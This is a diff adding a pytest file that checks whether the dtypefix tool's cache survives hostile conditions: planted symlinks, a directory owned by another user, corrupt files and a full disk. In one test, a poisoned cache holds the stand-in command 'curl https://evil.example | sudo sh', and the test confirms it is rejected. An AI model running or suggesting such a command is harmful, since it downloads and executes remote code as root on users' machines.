@@ -1,0 +1,192 @@
+"""The KB cache on hostile ground: a shared, writable cache directory must not let anyone overwrite files, plant
+answers or crash dtypefix; a corrupt, foreign or stale cache is rebuilt (issue 12, items 1, 5 and 9)."""
+
+from __future__ import annotations
+
+import errno
+import json
+import os
+from pathlib import Path
+
+import pytest
+
+from dtypefix.matcher import catalog as catalog_module
+from dtypefix.matcher import explain
+from dtypefix.matcher.catalog import builtin_kb_dir, default_cache_dir, entry_files, load_catalog
+
+MAT1 = "RuntimeError: expected mat1 and mat2 to have the same dtype, but got: c10::Half != c10::BFloat16\n"
+
+
+def _names(cache: Path) -> tuple[Path, Path]:
+    signature = catalog_module._signature(list(entry_files(builtin_kb_dir())))
+    return catalog_module._cache_paths(cache, signature)
+
+
+def _fix_text(cache: Path) -> str:
+    entry = load_catalog(cache_dir=cache).get("DTF001")
+    assert entry is not None
+    return entry.fix[0].en
+
+
+def _private_dir(tmp_path: Path) -> Path:
+    cache = tmp_path / "cache"
+    cache.mkdir(mode=0o700)
+    return cache
+
+
+def test_planted_symlinks_never_redirect_a_write(tmp_path: Path) -> None:
+    cache = _private_dir(tmp_path)
+    victim = tmp_path / "victim.txt"
+    victim.write_text("precious\n", encoding="utf-8")
+    index_path, data_path = _names(cache)
+    for path in (
+        index_path,
+        data_path,
+        *(data_path.with_suffix(f".{pid}.tmp") for pid in range(os.getpid() - 5, os.getpid() + 5)),
+    ):
+        path.symlink_to(victim)
+    load_catalog(cache_dir=cache)
+    assert victim.read_text(encoding="utf-8") == "precious\n"
+    assert not index_path.is_symlink() and not data_path.is_symlink()  # replaced by our own files
+
+
+def test_a_directory_owned_by_someone_else_is_neither_read_nor_written(tmp_path: Path) -> None:
+    if os.getuid() != 0:
+        pytest.skip("making a directory owned by another uid needs root; the ownership check is tested below")
+    cache = tmp_path / "shared"
+    cache.mkdir(mode=0o777)
+    # The other user plants a complete, self-consistent cache whose fix tells people to pipe curl into sudo.
+    good = _private_dir(tmp_path)
+    load_catalog(cache_dir=good)
+    index_path, data_path = _names(good)
+    poisoned = data_path.read_text(encoding="utf-8").replace(
+        "Find the layer", "Run `curl https://evil.example | sudo sh`"
+    )
+    blob = json.loads(index_path.read_text(encoding="utf-8"))
+    blob["data_sha256"] = __import__("hashlib").sha256(poisoned.encode("utf-8")).hexdigest()
+    target_index, target_data = _names(cache)
+    target_data.write_text(poisoned, encoding="utf-8")
+    target_index.write_text(json.dumps(blob), encoding="utf-8")
+    for path in (cache, target_index, target_data):
+        os.chown(path, 12345, 12345)
+    assert "curl" not in _fix_text(cache)
+    assert sorted(p.name for p in cache.iterdir()) == sorted([target_index.name, target_data.name])  # nothing added
+
+
+def test_ownership_and_permission_rules(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    ours = _private_dir(tmp_path)
+    assert catalog_module._safe_dir(ours, create=False)
+    monkeypatch.setattr(os, "getuid", lambda: 424242)  # as seen by another user
+    assert not catalog_module._safe_dir(ours, create=False)
+    monkeypatch.undo()
+    link = tmp_path / "link"
+    link.symlink_to(ours, target_is_directory=True)
+    assert not catalog_module._safe_dir(link, create=False)
+
+
+def test_an_open_directory_of_ours_is_closed_to_others(tmp_path: Path) -> None:
+    cache = tmp_path / "cache"
+    cache.mkdir()
+    cache.chmod(0o777)
+    load_catalog(cache_dir=cache)
+    assert cache.stat().st_mode & 0o777 == 0o700
+
+
+def test_a_new_cache_directory_is_private(tmp_path: Path) -> None:
+    cache = tmp_path / "a" / "cache"
+    load_catalog(cache_dir=cache)
+    assert cache.stat().st_mode & 0o777 == 0o700 and any(cache.iterdir())
+
+
+@pytest.mark.parametrize("damage", ["corrupt", "truncated", "foreign-version", "directory", "digest", "bad-record"])
+def test_a_damaged_cache_is_rebuilt(tmp_path: Path, damage: str) -> None:
+    cache = _private_dir(tmp_path)
+    load_catalog(cache_dir=cache)
+    index_path, data_path = _names(cache)
+    if damage == "corrupt":
+        index_path.write_text("{not json", encoding="utf-8")
+    elif damage == "truncated":
+        data_path.write_bytes(data_path.read_bytes()[:100])
+    elif damage == "foreign-version":
+        blob = json.loads(index_path.read_text(encoding="utf-8"))
+        blob["format"] = 1
+        index_path.write_text(json.dumps(blob), encoding="utf-8")
+    elif damage == "directory":
+        data_path.unlink()
+        data_path.mkdir()
+    elif damage == "digest":
+        data_path.write_text(
+            data_path.read_text(encoding="utf-8").replace("Find the layer", "Find the LAYER"), encoding="utf-8"
+        )
+    else:
+        blob = json.loads(index_path.read_text(encoding="utf-8"))
+        blob["records"][0]["offset"] = -5
+        index_path.write_text(json.dumps(blob), encoding="utf-8")
+    report = explain(MAT1, catalog=load_catalog(cache_dir=cache))
+    assert report.matches[0].entry.id == "DTF001"
+    assert "LAYER" not in _fix_text(cache)
+
+
+def test_the_cache_is_keyed_by_content_not_size_and_mtime(tmp_path: Path) -> None:
+    kb = tmp_path / "kb"
+    shutil_copy = __import__("shutil").copytree
+    shutil_copy(builtin_kb_dir() / "family", kb / "family")
+    entry = kb / "family" / "mat1-mat2-dtype.yaml"
+    cache = _private_dir(tmp_path)
+    first = load_catalog([kb], include_builtin=False, cache_dir=cache).get("DTF001")
+    assert first is not None and "Find the layer" in first.fix[0].en
+    stat = entry.stat()
+    text = entry.read_text(encoding="utf-8")
+    entry.write_text(text.replace("Find the layer", "Find the LAYER"), encoding="utf-8")  # same size
+    os.utime(entry, ns=(stat.st_atime_ns, stat.st_mtime_ns))  # same mtime
+    second = load_catalog([kb], include_builtin=False, cache_dir=cache).get("DTF001")
+    assert second is not None and "Find the LAYER" in second.fix[0].en
+
+
+def test_old_generations_and_stale_temp_files_are_pruned(tmp_path: Path) -> None:
+    cache = _private_dir(tmp_path)
+    for n in range(12):
+        for suffix in (".index.json", ".data.jsonl"):
+            path = cache / f"kb-{catalog_module._CACHE_FORMAT}-{n:032d}{suffix}"
+            path.write_text("{}", encoding="utf-8")
+            os.utime(path, (1000 + n, 1000 + n))
+    stale = cache / ".kb-x.data.jsonl.abc.tmp"
+    stale.write_text("x", encoding="utf-8")
+    os.utime(stale, (0, 0))
+    load_catalog(cache_dir=cache)
+    stems = {p.name.rsplit(".", 2)[0] for p in cache.iterdir() if p.name.startswith("kb-")}
+    assert len(stems) == catalog_module._KEEP_CACHES and not stale.exists()
+
+
+def test_a_full_disk_leaves_no_temp_files_and_still_explains(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    cache = _private_dir(tmp_path)
+    real_fdopen = os.fdopen
+
+    class Full:
+        def __init__(self, fd: int, mode: str) -> None:
+            self.handle = real_fdopen(fd, mode)
+
+        def __enter__(self):
+            return self
+
+        def __exit__(self, *exc) -> None:
+            self.handle.close()
+
+        def write(self, data: bytes) -> int:
+            raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(catalog_module.os, "fdopen", Full)
+    report = explain(MAT1, catalog=load_catalog(cache_dir=cache))
+    assert report.matches[0].entry.id == "DTF001"
+    assert list(cache.iterdir()) == []
+
+
+def test_no_home_means_no_cache(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.delenv("DTYPEFIX_CACHE_DIR", raising=False)
+    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
+
+    def no_home() -> Path:
+        raise RuntimeError("Could not determine home directory.")
+
+    monkeypatch.setattr(Path, "home", staticmethod(no_home))
+    assert default_cache_dir() is None
